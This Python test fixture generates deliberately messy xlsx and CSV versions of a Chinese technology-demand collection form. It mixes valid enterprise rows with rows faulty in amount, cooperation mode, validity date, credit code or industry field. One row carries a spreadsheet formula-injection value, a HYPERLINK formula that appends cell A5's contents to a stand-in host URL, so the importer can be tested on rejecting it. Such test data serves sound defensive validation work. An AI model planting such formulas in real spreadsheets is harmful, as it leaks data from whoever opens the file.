"""Messy filled-in 《需求征集表》, as collectors really send them: a merged title row, the
collecting unit's row, headers under other names with stray spaces and full-width
characters, a sample row, blank and total rows, and good rows beside bad ones."""

import csv
import datetime
import io

from openpyxl import Workbook

from jbgs.demo import credit_code_for

HEADER = ["序号", " 企业名称＊", "统一社会信用代码", "所在地区", "需求名称", "所属产业领域", "细分领域", "存在问题及现状",
          "主要技术指标", "预期成果", "意向投入金额（万元）", "合作方式", "有效期", "联系人", "联系电话", "电子邮箱",
          "是否隐去企业名称", "隐去联系方式", "隐去金额"]
NEW_ENTERPRISE = "无锡新辰材料科技有限公司"
NEW_CODE = credit_code_for(NEW_ENTERPRISE, "enterprise", "320214")
UNKNOWN = "常州未登记机电有限公司"  # a new enterprise whose row is refused: it must not be recorded either
UNKNOWN_CODE = credit_code_for(UNKNOWN, "enterprise", "320412")
FORMULA = '=HYPERLINK("http://x.example/?"&A5,"点此")'


def known_code() -> str:
    """The credit code of tests.conftest's enterprise (苏州微纳光电科技有限公司)."""
    return credit_code_for("苏州微纳光电科技有限公司", "enterprise", "320506")


def row(seq, title, *, name="苏州微纳光电科技有限公司", code=None, region="苏州市吴中区", field="新材料",
        amount="５０万", modes="委托开发、技术服务", valid="2099年3月5日", email="chen@example.cn",
        targets="耐温：350℃；使用寿命:≥3000小时", hide=("是", "", "否")):
    return [seq, name, code or known_code(), region, title, field, "高分子材料",
            f"{title}：现有工艺在高温工况下寿命不足，需改进配方。", targets, "完成中试", amount, modes, valid, "陈立群",
            "0512-6666 8888", email, *hide]


def rows():
    """(cells, the column expected to be at fault, or None) in file order."""
    return [
        (row(1, "耐高温密封材料"), None),
        (row(2, "高速电机轴承寿命提升", name=NEW_ENTERPRISE, code=NEW_CODE, region="无锡新吴区", amount="500000元",
             modes="合作开发/技术咨询", valid=datetime.date(2099, 1, 10), hide=("否", "否", "是")), None),
        (row(3, "\u3000电机控制器散热设计\u3000", name=NEW_ENTERPRISE, code=NEW_CODE, amount=80,
             valid="2099.6.30", targets=""), None),
        (row(4, "缺金额的需求", amount=""), "意向投入金额（万元）"),
        (row(5, "缺合作方式的需求", modes=""), "合作方式"),
        (row(6, "缺有效期的需求", valid=""), "有效期"),
        (row(7, "信用代码写错的需求", code=known_code()[:-1] + ("0" if known_code()[-1] != "0" else "1")),
         "统一社会信用代码"),
        (row(8, "已过期的需求", valid="2020.1.1"), "有效期"),
        (row(9, "领域不存在的需求", field="量子计算"), "所属产业领域"),
        (row(10, FORMULA), "需求名称"),
        (row(11, "新企业金额写错", name=UNKNOWN, code=UNKNOWN_CODE, region="常州市", amount="五十万"),
         "意向投入金额（万元）"),
    ]


def table(cells=None):
    lines = [["2023年J-TOP创新挑战季 需求征集表"], ["征集单位（盖章）：苏州市科学技术局"], HEADER,
             ["示例", "苏州某某新材料科技有限公司", "91350100M000100Y43"]]
    for number, (line, _column) in enumerate(cells or rows(), start=1):
        lines.append(line)
        if number == 3:
            lines.append([None] * len(HEADER))  # a blank row in the middle
    lines.append(["合计", "", "", "", "", "", "", "", "", "", "130"])
    return lines


def expected_problems() -> dict[int, str]:
    """The spreadsheet row of each bad row, with its column: below the three rows above the
    header, the header, the sample, and (after the third row) the blank row."""
    return {number + 4 + (number > 3): column for number, (_cells, column) in enumerate(rows(), start=1) if column}


def xlsx(lines=None) -> bytes:
    book = Workbook()
    sheet = book.active
    for cells in lines or table():
        sheet.append(cells)
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(HEADER))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv_bytes(encoding: str, lines=None) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    for cells in lines or table():
        writer.writerow(["" if v is None else (v.isoformat() if isinstance(v, datetime.date) else v) for v in cells])
    return out.getvalue().encode(encoding)
